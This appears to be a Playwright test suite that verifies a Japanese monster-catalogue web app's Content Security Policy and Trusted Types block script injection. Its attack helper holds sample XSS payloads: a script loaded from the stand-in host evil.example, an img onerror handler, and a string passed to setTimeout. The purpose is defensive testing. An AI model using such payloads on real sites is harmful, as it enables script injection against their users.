import type { APIRequestContext, Page } from "@playwright/test";
import { TRUSTED_TYPES } from "../../scripts/content-security-policy.ts";
import { deployment } from "./support/deployment.ts";
import { needs } from "./support/needs.ts";
import { expect, setFaults, signIn, test } from "./support/test.ts";

test.use({ serviceWorkers: "allow" });

/** Collects what the browser blocks because of the page's policy. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction("reportViolation", (violation: string) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const { effectiveDirective, blockedURI, sample } = event;
      Reflect.get(window, "reportViolation")(`${effectiveDirective} ${blockedURI} ${sample}`);
    });
  });
  page.on("console", (message) => {
    if (/Content.Security.Policy|TrustedScript|Trusted Type/i.test(message.text())) {
      violations.push(message.text());
    }
  });
  return violations;
}

/** Uses all that the app has, sign-in by popup included. */
async function useWholeApp(page: Page, site = ""): Promise<void> {
  await page.goto(`${site}/`);
  await expect(page.getByText("API接続成功: healthy")).toBeVisible();
  await page.getByRole("link", { name: "図鑑を見る" }).click();
  const field = page.getByRole("combobox", { name: "モンスターを検索" });
  await field.pressSequentially("sumibi");
  await page.getByRole("option", { name: "スミビネコ" }).waitFor();
  await field.press("Escape");
  await page.getByRole("button", { name: "スミビネコを比較に加える" }).click();
  await field.press("Escape");
  await page.getByRole("button", { name: "ヒノコリスを比較に加える" }).click();
  await page.getByRole("link", { name: "スミビネコの詳細を見る" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "スミビネコ" })).toBeVisible();
  await page.keyboard.press("ArrowRight");
  await page.getByRole("link", { name: /比較する|比べる/ }).click();
  await expect(page.getByRole("table")).toBeVisible();
  await page.getByRole("button", { name: "ダーク" }).click();
  await page.getByRole("button", { name: "English" }).click();
  await page.getByRole("button", { name: "Keyboard" }).click();
  await page.getByRole("dialog").getByRole("button").click();
  await page.goto(`${site}/no/such/page`);
  await expect(page.locator("[data-prerendered]")).toHaveCount(0);
  await page.keyboard.press("/");
  await page.getByRole("dialog").getByRole("button").click();
  await page.getByRole("button", { name: "日本語" }).click();
  await page.goto(`${site}/profile?a=1`);
  await signIn(page, { email: "policy@example.com", name: "方針" });
  await expect(page.getByRole("heading", { level: 1, name: "マイページ" })).toBeVisible();
  await page.reload();
  await page.getByRole("button", { name: "方針のユーザーメニュー" }).click();
  await page.getByRole("button", { name: "ログアウト" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "ログイン" })).toBeVisible();
}

test("the whole app runs without violating its security policy", async ({ page }) => {
  const violations = await watchViolations(page);
  await useWholeApp(page);
  await page.waitForFunction(async () => (await navigator.serviceWorker.ready).active !== null);
  expect(violations).toEqual([]);
});

/** Tries what an attacker with a hole in the app would: script by address, by markup, by text. */
function attack(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const attempt = (attack: () => void) => {
      try {
        attack();
        return "no error";
      } catch (error) {
        return error instanceof Error ? error.name : String(error);
      }
    };
    return [
      attempt(() => {
        const script = document.createElement("script");
        script.src = "https://evil.example/x.js";
        document.body.append(script);
      }),
      attempt(() => {
        document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.smuggled=1'>");
      }),
      attempt(() => {
        Reflect.apply(setTimeout, window, ["window.smuggled=1", 0]);
      }),
    ];
  });
}

async function expectNothingSmuggled(page: Page, violations: readonly string[]): Promise<void> {
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(3);
  expect(await page.evaluate(() => Reflect.get(window, "smuggled"))).toBeUndefined();
}

test("an injected script does not run", async ({ page }) => {
  const violations = await watchViolations(page);
  const requested: string[] = [];
  page.on("response", (response) => requested.push(new URL(response.url()).hostname));
  await page.goto("/monsters");
  await expect(page.getByRole("link", { name: "ヒノコリスの詳細を見る" })).toBeVisible();
  await attack(page);
  await expectNothingSmuggled(page, violations);
  expect(requested).not.toContain("evil.example");
});

test.describe("with Trusted Types enforced", () => {
  test.use({ serviceWorkers: "block" });

  /** Serves the same build with a policy that enforces them, too. */
  async function deployWithTrustedTypes(page: Page, request: APIRequestContext) {
    const policy = (await request.get("/")).headers()["content-security-policy"];
    const site = await deployment({ "Content-Security-Policy": `${policy}; ${TRUSTED_TYPES}` });
    return { site, violations: await watchViolations(page) };
  }

  test(
    "the whole app runs without violating them, the worker for a long list included",
    needs("trusted types"),
    async ({ page, request }) => {
      const { site, violations } = await deployWithTrustedTypes(page, request);
      await useWholeApp(page, site.url);
      await setFaults(page, "monsters=20000");
      const worker = page.waitForEvent("worker");
      await page.goto(`${site.url}/monsters`);
      expect((await worker).url()).toContain("/assets/list-worker-");
      await page.waitForLoadState("networkidle");
      expect(violations).toEqual([]);
    },
  );

  test(
    "text becomes neither script nor markup",
    needs("trusted types"),
    async ({ page, request }) => {
      const { site, violations } = await deployWithTrustedTypes(page, request);
      await page.goto(`${site.url}/monsters`);
      await expect(page.getByRole("link", { name: "ヒノコリスの詳細を見る" })).toBeVisible();
      expect(await attack(page)).toEqual(["TypeError", "TypeError", "TypeError"]);
      await expectNothingSmuggled(page, violations);
    },
  );
});
